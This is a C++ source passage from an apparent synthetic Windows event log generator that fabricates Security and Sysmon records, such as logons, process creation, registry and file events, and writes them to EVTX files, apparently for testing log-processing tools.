    const bool kerberos = network && rng.percent(60);
    if (network) {
      null_subject(e);
    } else {
      subject(e, accounts[3], 0x3e7);
    }
    sid(e, "TargetUserSid", target.sid);
    str(e, "TargetUserName", target.name);
    str(e, "TargetDomainName", target.domain);
    hex64(e, "TargetLogonId", service ? 0x3e7 : s.logon_id);
    u32(e, "LogonType", s.logon_type);
    str(e, "LogonProcessName",
        kerberos  ? "Kerberos"
        : network ? "NtLmSsp "
        : service ? "Advapi  "
                  : "User32 ");
    str(e, "AuthenticationPackageName", kerberos ? "Kerberos" : network ? "NTLM" : "Negotiate");
    text.clear();
    if (network && !kerberos) {
      text = "WKS-";
      add_padded(text, rng.below(10000), 4);
    } else {
      text = "-";
    }
    str(e, "WorkstationName", text);
    item(e, "LogonGuid").set_guid(kerberos ? rng.guid() : Guid{});
    str(e, "TransmittedServices", "-");
    str(e, "LmPackageName", network && !kerberos ? "NTLM V2" : "-");
    u32(e, "KeyLength", network && !kerberos ? 128 : 0);
    hex64(e, "ProcessId", network ? 0 : lsass_pid);
    str(e, "ProcessName", network ? "-" : "C:\\Windows\\System32\\lsass.exe");
    const bool loopback = !network && rng.percent(50);
    if (network) {
      remote_address(text);
    } else {
      text = loopback ? "127.0.0.1" : "-";
    }
    str(e, "IpAddress", text);
    text.clear();
    if (network) {
      add_dec(text, rng.between(49152, 65535));
    } else {
      text = loopback ? "0" : "-";
    }
    str(e, "IpPort", text);
    str(e, "ImpersonationLevel", "%%1833");
    str(e, "RestrictedAdminMode", s.logon_type == 10 ? "%%1843" : "-");
    str(e, "TargetOutboundUserName", "-");
    str(e, "TargetOutboundDomainName", "-");
    str(e, "VirtualAccount", "%%1843");
    hex64(e, "TargetLinkedLogonId", rng.percent(30) ? s.logon_id + 1 : 0);
    str(e, "ElevatedToken", rng.percent(40) ? "%%1842" : "%%1843");
  }

  // 4625: an account failed to log on.
  void failed_logon(EventSpec& e) {
    security_system(e, 4625, 0, 12544, false);
    null_subject(e);
    sid(e, "TargetUserSid", null_sid);
    if (rng.percent(60)) {
      str(e, "TargetUserName", user_account().name);
    } else {
      static constexpr std::array<const char*, 8> kGuesses = {
          "administrator", "admin", "guest", "test", "user", "backup", "sql", "scanner"};
      str(e, "TargetUserName", rng.pick(kGuesses));
    }
    str(e, "TargetDomainName", rng.percent(70) ? netbios_domain : std::string_view("."));
    item(e, "Status").set_hex32(0xc000006d);
    str(e, "FailureReason", "%%2313");
    item(e, "SubStatus").set_hex32(rng.percent(70) ? 0xc000006a : 0xc0000064);
    u32(e, "LogonType", rng.percent(80) ? 3 : 10);
    str(e, "LogonProcessName", "NtLmSsp ");
    str(e, "AuthenticationPackageName", "NTLM");
    text = "-";
    if (rng.percent(50)) {
      text = "DESKTOP-";
      add_random_hex(text, rng, 7, true);
    }
    str(e, "WorkstationName", text);
    str(e, "TransmittedServices", "-");
    str(e, "LmPackageName", "-");
    u32(e, "KeyLength", 0);
    hex64(e, "ProcessId", 0);
    str(e, "ProcessName", "-");
    remote_address(text);
    str(e, "IpAddress", text);
    text.clear();
    add_dec(text, rng.between(1024, 65535));
    str(e, "IpPort", text);
  }

  // 4634: an account was logged off.
  void logoff(EventSpec& e) {
    security_system(e, 4634, 0, 12545);
    const Session& s = rng.pick(sessions);
    const Account& a = accounts[s.account];
    sid(e, "TargetUserSid", a.sid);
    str(e, "TargetUserName", a.name);
    str(e, "TargetDomainName", a.domain);
    hex64(e, "TargetLogonId", s.logon_id);
    u32(e, "LogonType", s.logon_type);
  }

  // 4672: special privileges assigned to a new logon.
  void special_logon(EventSpec& e) {
    security_system(e, 4672, 0, 12548);
    const bool system_logon = rng.percent(60);
    const Session& s = rng.pick(sessions);
    subject(e, system_logon ? accounts[0] : accounts[s.account], system_logon ? 0x3e7 : s.logon_id);
    text.clear();
    const uint32_t count = rng.between(3, static_cast<uint32_t>(kPrivileges.size()));
    const uint32_t first = rng.below(static_cast<uint32_t>(kPrivileges.size()) - count + 1);
    for (uint32_t i = 0; i < count; ++i) {
      if (i > 0) text += "\r\n\t\t\t";
      text += kPrivileges[first + i];
    }
    str(e, "PrivilegeList", text);
  }

  // 4688: a new process has been created.
  void process_creation(EventSpec& e) {
    security_system(e, 4688, 2, 13312);
    const Process& parent = rng.pick(processes);
    Process child = new_process(parent);
    const Account& a = accounts[child.account];
    subject(e, a, child.logon_id);
    hex64(e, "NewProcessId", child.pid);
    str(e, "NewProcessName", kImages[child.image].path);
    str(e, "TokenElevationType",
        child.integrity == 1   ? "%%1937"
        : child.integrity == 2 ? "%%1936"
                               : "%%1938");
    hex64(e, "ProcessId", parent.pid);
    str(e, "CommandLine", child.command_line);
    sid(e, "TargetUserSid", null_sid);
    str(e, "TargetUserName", "-");
    str(e, "TargetDomainName", "-");
    hex64(e, "TargetLogonId", 0);
    str(e, "ParentProcessName", kImages[parent.image].path);
    sid(e, "MandatoryLabel", integrity_sids[child.integrity]);
    processes[4 + rng.below(static_cast<uint32_t>(processes.size() - 4))] = std::move(child);
  }

  void object_path(std::string& out, const Account& a) {
    out.clear();
    switch (rng.below(4)) {
      case 0:
        add_user_path(out, a);
        out += "\\Documents\\Projects\\Q";
        add_dec(out, rng.between(1, 4));
        out += "_report_";
        add_dec(out, rng.between(1000, 9999));
        out += rng.pick(kFileExtensions);
        break;
      case 1: out += "C:\\Windows\\System32\\config\\SAM"; break;
      case 2:
        out += "\\Device\\HarddiskVolume3\\ProgramData\\";
        add_random_hex(out, rng, 12, false);
        out += "\\cache.db";
        break;
      default: out += "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
    }
  }

  // 4663: an attempt was made to access an object.
  void object_access(EventSpec& e) {
    security_system(e, 4663, 1, 12800);
    const Process& p = rng.pick(processes);
    const Account& a = accounts[p.account];
    subject(e, a, p.logon_id);
    str(e, "ObjectServer", "Security");
    object_path(text, a);
    const bool key = text.rfind("\\REGISTRY", 0) == 0;
    str(e, "ObjectType", key ? "Key" : "File");
    str(e, "ObjectName", text);
    hex64(e, "HandleId", 4 * rng.between(16, 20000));
    static constexpr std::array<const char*, 4> kAccess = {
        "%%4416\r\n\t\t\t\t", "%%4417\r\n\t\t\t\t", "%%1537\r\n\t\t\t\t", "%%4432\r\n\t\t\t\t"};
    static constexpr std::array<uint32_t, 4> kMasks = {0x1, 0x2, 0x10000, 0x1};
    const uint32_t which = rng.below(4);
    str(e, "AccessList", kAccess[which]);
    item(e, "AccessMask").set_hex32(kMasks[which]);
    hex64(e, "ProcessId", p.pid);
    str(e, "ProcessName", kImages[p.image].path);
    str(e, "ResourceAttributes", rng.percent(20) ? "S:AI" : "");
  }

  // 5145: a network share object was checked for access.
  void share_access(EventSpec& e) {
    security_system(e, 5145, 0, 12811);
    const Session& s = rng.pick(sessions);
    subject(e, accounts[s.account], s.logon_id);
    str(e, "ObjectType", "File");
    remote_address(text);
    str(e, "IpAddress", text);
    text.clear();
    add_dec(text, rng.between(49152, 65535));
    str(e, "IpPort", text);
    const uint32_t share = rng.below(3);
    str(e, "ShareName", share == 0 ? "\\\\*\\IPC$" : share == 1 ? "\\\\*\\SYSVOL" : "\\\\*\\C$");
    str(e, "ShareLocalPath",
        share == 0   ? ""
        : share == 1 ? "\\??\\C:\\Windows\\SYSVOL\\sysvol"
                     : "\\??\\C:\\");
    text.clear();
    if (share == 0) {
      static constexpr std::array<const char*, 5> kPipes = {"srvsvc", "lsarpc", "samr", "winreg",
                                                            "netlogon"};
      text = rng.pick(kPipes);
    } else if (share == 1) {
      text = dns_domain;
      text += "\\Policies\\";
      add_guid_text(text, rng.guid());
      text += "\\Machine\\Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf";
    } else {
      text = "Users\\";
      text += accounts[s.account].name;
      text += "\\AppData\\Local\\Temp\\";
      add_random_hex(text, rng, 8, false);
      text += rng.pick(kFileExtensions);
    }
    str(e, "RelativeTargetName", text);
    item(e, "AccessMask").set_hex32(rng.percent(70) ? 0x120089 : 0x12019f);
    str(e, "AccessList",
        "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4419\r\n\t\t\t\t%%"
        "4423\r\n\t\t\t\t");
    str(e, "AccessReason",
        "%%1538:\t%%1801 D:(A;;0x1200a9;;;WD)\r\n\t\t\t\t%%1541:\t%%1801 "
        "D:(A;;0x1200a9;;;WD)\r\n\t\t\t\t"
        "%%4416:\t%%1801 D:(A;;0x1200a9;;;WD)\r\n\t\t\t\t%%4419:\t%%1801 "
        "D:(A;;0x1200a9;;;WD)\r\n\t\t\t\t"
        "%%4423:\t%%1801 D:(A;;0x1200a9;;;WD)\r\n\t\t\t\t");
  }

  // 4720: a user account was created.
  void account_created(EventSpec& e) {
    security_system(e, 4720, 0, 13824);
    std::string name = "tmp_";
    add_random_hex(name, rng, 6, false);
    std::string new_sid = accounts[3].sid_text.substr(0, accounts[3].sid_text.rfind('-') + 1);
    add_dec(new_sid, rng.between(20000, 90000));
    str(e, "TargetUserName", name);
    str(e, "TargetDomainName", netbios_domain);
    sid(e, "TargetSid", *Sid::parse(new_sid));
    const Session& s = rng.pick(sessions);
    subject(e, accounts[s.account], s.logon_id);
    str(e, "PrivilegeList", "-");
    str(e, "SamAccountName", name);
    str(e, "DisplayName", "%%1793");
    str(e, "UserPrincipalName", "-");
    str(e, "HomeDirectory", "%%1793");
    str(e, "HomePath", "%%1793");
    str(e, "ScriptPath", "%%1793");
    str(e, "ProfilePath", "%%1793");
    str(e, "UserWorkstations", "%%1793");
    str(e, "PasswordLastSet", "%%1794");
    str(e, "AccountExpires", "%%1794");
    str(e, "PrimaryGroupId", "513");
    str(e, "AllowedToDelegateTo", "-");
    str(e, "OldUacValue", "0x0");
    str(e, "NewUacValue", "0x15");
    str(e, "UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084");
    str(e, "UserParameters", "%%1793");
    str(e, "SidHistory", "-");
    str(e, "LogonHours", "%%1797");
  }

  // 1102: the audit log was cleared (a UserData event).
  void log_cleared(EventSpec& e) {
    system(e, "Microsoft-Windows-Eventlog", eventlog_provider, 1102, 0, 4, 104,
           0x4020000000000000ULL, "Security");
    e.process_id = 4 * rng.between(200, 400);
    e.thread_id = 4 * rng.between(1000, 3000);
    e.body = EventBody::kUserData;
    e.user_data_element.assign("LogFileCleared");
    e.user_data_attributes.emplace_back(
        "xmlns", "http://manifests.microsoft.com/win/2004/08/windows/eventlog");
    const Session& s = rng.pick(sessions);
    subject(e, accounts[s.account], s.logon_id);
  }

  // --- Sysmon ------------------------------------------------------------------

  void sysmon_system(EventSpec& e, uint16_t id, uint8_t version) {
    system(e, "Microsoft-Windows-Sysmon", sysmon_provider, id, version, 4, id,
           0x8000000000000000ULL, "Microsoft-Windows-Sysmon/Operational");
    e.process_id = sysmon_pid;
    e.thread_id = sysmon_pid + 4 * rng.between(1, 40);
    e.user_id = system_sid;
  }

  void rule_name(EventSpec& e, const char* technique) {
    str(e, "RuleName", technique != nullptr && rng.percent(15) ? technique : "-");
  }

  void utc_time(EventSpec& e, const char* name, Timestamp t) {
    text.clear();
    add_utc_time(text, t);
    str(e, name, text);
  }

  void user_name(std::string& out, const Account& a) {
    out = a.domain;
    out.push_back('\\');
    out += a.name;
  }

  Guid logon_guid(uint64_t logon_id) {
    Guid g;
    std::memcpy(g.bytes.data(), &machine_guid_prefix, 4);
    const uint32_t mid = 0x65e5a1f0u;
    std::memcpy(g.bytes.data() + 4, &mid, 4);
    g.bytes[8] = 0;
    g.bytes[9] = 0;
    std::memcpy(g.bytes.data() + 10, &logon_id, 6);
    return g;
  }

  // Sysmon 1: process creation.
  void sysmon_process_create(EventSpec& e) {
    sysmon_system(e, 1, 5);
    const Process& parent = rng.pick(processes);
    Process child = new_process(parent);
    const Image& image = kImages[child.image];
    const Account& a = accounts[child.account];
    rule_name(e, "technique_id=T1059.001,technique_name=PowerShell");
    utc_time(e, "UtcTime", now);
    item(e, "ProcessGuid").set_guid(child.guid);
    u32(e, "ProcessId", child.pid);
    str(e, "Image", image.path);
    str(e, "FileVersion", image.version);
    str(e, "Description", image.description);
    str(e, "Product", image.product);
    str(e, "Company", image.company);
    str(e, "OriginalFileName", image.original_name);
    str(e, "CommandLine", child.command_line);
    if (child.account >= first_user) {
      text = "C:\\Users\\";
      text += a.name;
      text += "\\";
    } else {
      text = "C:\\Windows\\system32\\";
    }
    str(e, "CurrentDirectory", text);
    user_name(text, a);
    str(e, "User", text);
    item(e, "LogonGuid").set_guid(logon_guid(child.logon_id));
    hex64(e, "LogonId", child.logon_id);
    u32(e, "TerminalSessionId", child.account >= first_user ? rng.between(1, 3) : 0);
    str(e, "IntegrityLevel", kIntegrity[child.integrity]);
    str(e, "Hashes", image_hashes[child.image]);
    item(e, "ParentProcessGuid").set_guid(parent.guid);
    u32(e, "ParentProcessId", parent.pid);
    str(e, "ParentImage", kImages[parent.image].path);
    str(e, "ParentCommandLine", parent.command_line);
    user_name(text, accounts[parent.account]);
    str(e, "ParentUser", text);
    processes[4 + rng.below(static_cast<uint32_t>(processes.size() - 4))] = std::move(child);
  }

  // Sysmon 3: network connection.
  void sysmon_network(EventSpec& e) {
    sysmon_system(e, 3, 5);
    const Process& p = rng.pick(processes);
    rule_name(e, "technique_id=T1021,technique_name=Remote Services");
    utc_time(e, "UtcTime", before_now(5));
    item(e, "ProcessGuid").set_guid(p.guid);
    u32(e, "ProcessId", p.pid);
    str(e, "Image", kImages[p.image].path);
    user_name(text, accounts[p.account]);
    str(e, "User", text);
    const Port& port = rng.pick(kPorts);
    const bool udp = port.number == 53 && rng.percent(80);
    str(e, "Protocol", udp ? "udp" : "tcp");
    const bool outbound = rng.percent(85);
    item(e, "Initiated").set_bool(outbound);
    item(e, "SourceIsIpv6").set_bool(false);
    str(e, "SourceIp", outbound ? std::string_view(local_ip) : std::string_view("10.20.0.15"));
    str(e, "SourceHostname", outbound ? std::string_view(computer) : std::string_view("-"));
    item(e, "SourcePort").set_uint16(static_cast<uint16_t>(rng.between(49152, 65535)));
    str(e, "SourcePortName", "-");
    item(e, "DestinationIsIpv6").set_bool(false);
    const bool external = port.number == 443 || port.number == 80 || port.number == 8080;
    text.clear();
    if (external) {
      add_ipv4(text, rng.between(13, 223), rng.below(256), rng.below(256), rng.between(1, 254));
    } else {
      add_ipv4(text, 10, 20, rng.between(1, 10), rng.between(1, 254));
    }
    str(e, "DestinationIp", text);
    if (external) {
      str(e, "DestinationHostname", rng.pick(kExternalHosts));
    } else {
      text = "DC0";
      add_dec(text, rng.between(1, 3));
      text += "." + dns_domain;
      str(e, "DestinationHostname", text);
    }
    item(e, "DestinationPort").set_uint16(port.number);
    str(e, "DestinationPortName", port.name);
  }

  // Sysmon 11: file created.
  void sysmon_file_create(EventSpec& e) {
    sysmon_system(e, 11, 2);
    const Process& p = rng.pick(processes);
    const Account& a = accounts[p.account];
    rule_name(e, "technique_id=T1105,technique_name=Ingress Tool Transfer");
    utc_time(e, "UtcTime", now);
    item(e, "ProcessGuid").set_guid(p.guid);
    u32(e, "ProcessId", p.pid);
    str(e, "Image", kImages[p.image].path);
    text.clear();
    switch (rng.below(4)) {
      case 0:
        text = "C:\\Windows\\Prefetch\\";
        {
          const std::string_view path = kImages[p.image].path;
          const std::string_view base = path.substr(path.rfind('\\') + 1);
          for (char c : base) text.push_back(c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c);
        }
        text.push_back('-');
        add_random_hex(text, rng, 8, true);
        text += ".pf";
        break;
      case 1:
        add_user_path(text, a);
        text += "\\AppData\\Local\\Temp\\";
        add_random_hex(text, rng, 8, false);
        text += rng.pick(kFileExtensions);
        break;
      case 2:
        add_user_path(text, a);
        text += "\\Downloads\\";
        add_random_hex(text, rng, 10, false);
        text += rng.pick(kFileExtensions);
        break;
      default:
        text = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\";
        add_random_hex(text, rng, 6, false);
        text += ".lnk";
    }
    str(e, "TargetFilename", text);
    utc_time(e, "CreationUtcTime", before_now(86400));
    user_name(text, a);
    str(e, "User", text);
  }

  // Sysmon 13: registry value set.
  void sysmon_registry(EventSpec& e) {
    sysmon_system(e, 13, 2);
    const Process& p = rng.pick(processes);
    rule_name(e, "technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder");
    str(e, "EventType", "SetValue");
    utc_time(e, "UtcTime", now);
    item(e, "ProcessGuid").set_guid(p.guid);
    u32(e, "ProcessId", p.pid);
    str(e, "Image", kImages[p.image].path);
    text = rng.pick(kRunKeys);
    add_random_hex(text, rng, 8, false);
    if (rng.percent(50)) text += "\\Start";
    str(e, "TargetObject", text);
    switch (rng.below(3)) {
      case 0:
        text = "DWORD (0x";
        add_hex(text, rng.below(5), 8, false);
        text += ")";
        break;
      case 1:
        text = "\"";
        add_user_path(text, accounts[p.account]);
        text += "\\AppData\\Roaming\\";
        add_random_hex(text, rng, 8, false);
        text += ".exe\" --autostart";
        break;
      default: text = "Binary Data";
    }
    str(e, "Details", text);
    user_name(text, accounts[p.account]);
    str(e, "User", text);
  }

  void next(EventSpec& e) {
    now.ticks += 1 + rng.below(2'000'000);  // up to 200 ms apart
    begin(e);
    bool sysmon = kind == Kind::kSysmon || (kind == Kind::kMixed && rng.percent(50));
    if (sysmon) {
      const uint32_t r = rng.below(100);
      if (r < 25) {
        sysmon_process_create(e);
      } else if (r < 55) {
        sysmon_network(e);
      } else if (r < 80) {
        sysmon_file_create(e);
      } else {
        sysmon_registry(e);
      }
    } else if (sequence > 0 && rng.below(5000) == 0) {
      log_cleared(e);
    } else {
      const uint32_t r = rng.below(1000);
      if (r < 250) {
        logon(e);
      } else if (r < 300) {
        failed_logon(e);
      } else if (r < 500) {
        logoff(e);
      } else if (r < 600) {
        special_logon(e);
      } else if (r < 800) {
        process_creation(e);
      } else if (r < 900) {
        object_access(e);
      } else if (r < 990) {
        share_access(e);
      } else {
        account_created(e);
      }
    }
    end(e);
    ++sequence;
  }
};

Generator::Generator(Kind kind, uint64_t seed) : state_(std::make_unique<State>(kind, seed)) {}
Generator::Generator(Generator&&) noexcept = default;
Generator& Generator::operator=(Generator&&) noexcept = default;
Generator::~Generator() = default;

void Generator::next(evtx::EventSpec& event) { state_->next(event); }

Result<FileStats> write_file(const std::string& path, const FileOptions& options) {
  if (options.records == 0 && options.min_bytes == 0) {
    return make_error(Errc::kInvalidArgument, "neither a record count nor a size was given");
  }
  evtx::WriterOptions writer_options;
  if (options.min_bytes > 0) {
    const uint64_t header = limits::kEvtxFileHeaderSize;
    const uint64_t body = options.min_bytes > header ? options.min_bytes - header : 0;
    const uint64_t chunks =
        std::max<uint64_t>(1, (body + limits::kEvtxChunkSize - 1) / limits::kEvtxChunkSize);
    if (chunks > UINT32_MAX) return make_error(Errc::kInvalidArgument, "size too large");
    writer_options.max_chunks = static_cast<uint32_t>(chunks);
  }
  auto writer = evtx::EvtxWriter::create(path, writer_options);
  if (!writer.ok()) return writer.error();
  Generator generator(options.kind, options.seed);
  EventSpec event;
  uint64_t written = 0;
  while (options.records == 0 || written < options.records) {
    generator.next(event);
    auto r = writer->add(event);
    if (!r.ok()) {
      if (writer->full()) break;
      Error e = r.error();
      e.source = path;
      return e;
    }
    ++written;
  }
  FileStats stats;
  stats.records = writer->records();
  stats.chunks = writer->chunks();
  stats.bytes = writer->file_size();
  if (auto r = writer->finish(); !r.ok()) {
    Error e = r.error();
    if (e.source.empty()) e.source = path;
    return e;
  }
  return stats;
}

}  // namespace vigil::synth
